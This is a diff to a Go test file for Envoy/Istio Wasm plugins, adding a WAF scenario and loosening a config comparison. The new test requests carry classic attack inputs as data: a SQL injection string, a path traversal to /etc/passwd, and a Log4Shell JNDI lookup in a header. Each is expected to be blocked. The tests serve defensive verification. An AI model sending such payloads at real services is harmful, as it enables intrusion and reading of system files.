@@ -24,6 +24,8 @@ import (
 type scenario struct {
 	// plugin is the name that wasmplugin.yaml and dist/ have, pkg its package.
 	plugin, pkg string
+	// envoyOnly is a key of the configuration that Istio has no use for.
+	envoyOnly string
 	// requests are sent through envoy.yaml; want is status and, for an answer of
 	// the proxy, "!".
 	requests []request
@@ -35,12 +37,22 @@ type request struct {
 	want         string
 }
 
+// browser are the headers without which CRS takes a client for a tool.
+var browser = []harness.Header{{Name: "user-agent", Value: "shop/2.1"}, {Name: "accept", Value: "*/*"}}
+
 var scenarios = map[string]scenario{
-	"jwt-audience": {"jwt-audience", "../plugins/jwtaudience/wasm", []request{
+	"jwt-audience": {"jwt-audience", "../plugins/jwtaudience/wasm", "", []request{
 		{"GET", "/healthz", nil, "200"},
 		{"GET", "/orders", nil, "401!"},
 		{"GET", "/admin/users", []harness.Header{{Name: "authorization", Value: "Bearer abc"}}, "401!"},
 		{"GET", "/healthz/%2e%2e/admin", nil, "400!"},
+	}},
+	"waf": {"waf", "../plugins/waf/wasm", "hold_headers", []request{
+		{"GET", "/orders?q=blue+shoes", browser, "200"},
+		{"DELETE", "/orders/17", browser, "200"},
+		{"GET", "/orders?id=1%27%20OR%20%271%27=%271", browser, "403!"},
+		{"GET", "/files?name=../../../etc/passwd", browser, "403!"},
+		{"GET", "/orders", []harness.Header{{Name: "user-agent", Value: "${jndi:ldap://x/a}"}, {Name: "accept", Value: "*/*"}}, "403!"},
 	}},
 }
 
@@ -143,6 +155,7 @@ func TestWasmPluginsCarryTheSamePolicy(t *testing.T) {
 					URL          string          `json:"url"`
 					Phase        string          `json:"phase"`
 					FailStrategy string          `json:"failStrategy"`
+					Priority     int             `json:"priority"`
 					PluginConfig json.RawMessage `json:"pluginConfig"`
 				} `json:"spec"`
 			}
@@ -158,7 +171,9 @@ func TestWasmPluginsCarryTheSamePolicy(t *testing.T) {
 			if len(resource.Spec.Selector.MatchLabels) == 0 || resource.Spec.URL == "" || resource.Spec.Phase == "" {
 				t.Errorf("spec = %+v, want a selector, a url and a phase", resource.Spec)
 			}
-			if got, want := decoded(t, resource.Spec.PluginConfig), decoded(t, inEnvoy(t, name)); !reflect.DeepEqual(got, want) {
+			want := decoded(t, inEnvoy(t, name))
+			delete(want, s.envoyOnly)
+			if got := decoded(t, resource.Spec.PluginConfig); !reflect.DeepEqual(got, want) {
 				t.Errorf("pluginConfig = %v, want that of envoy.yaml: %v", got, want)
 			}
 			proxy, err := harness.Start(t.Context(), []harness.Plugin{{
@@ -174,7 +189,7 @@ func TestWasmPluginsCarryTheSamePolicy(t *testing.T) {
 	}
 }
 
-func decoded(t *testing.T, document []byte) (v any) {
+func decoded(t *testing.T, document []byte) (v map[string]any) {
 	t.Helper()
 	if err := json.Unmarshal(document, &v); err != nil {
 		t.Fatal(err)
